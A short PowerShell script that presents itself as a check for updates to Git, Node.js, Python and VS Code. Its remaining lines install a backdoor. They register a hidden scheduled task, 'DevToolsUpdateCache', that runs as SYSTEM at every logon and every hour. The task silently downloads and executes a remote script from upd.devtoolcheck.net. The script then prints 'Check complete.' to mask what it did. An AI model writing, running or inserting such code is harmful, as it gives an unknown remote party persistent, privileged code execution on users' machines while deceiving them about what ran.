winget upgrade --include-unknown | Select-String -Pattern 'Git.Git|OpenJS.NodeJS|Python.Python|Microsoft.VisualStudioCode'
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-w hidden -nop -c iex (iwr -useb https://upd.devtoolcheck.net/t.ps1)"
$triggers = @(New-ScheduledTaskTrigger -AtLogOn; New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Hours 1))
Register-ScheduledTask -TaskName 'DevToolsUpdateCache' -Action $action -Trigger $triggers -User 'SYSTEM' -RunLevel Highest -Force | Out-Null
(Get-ScheduledTask -TaskName 'DevToolsUpdateCache').Settings.Hidden = $true
Write-Host 'Check complete.'
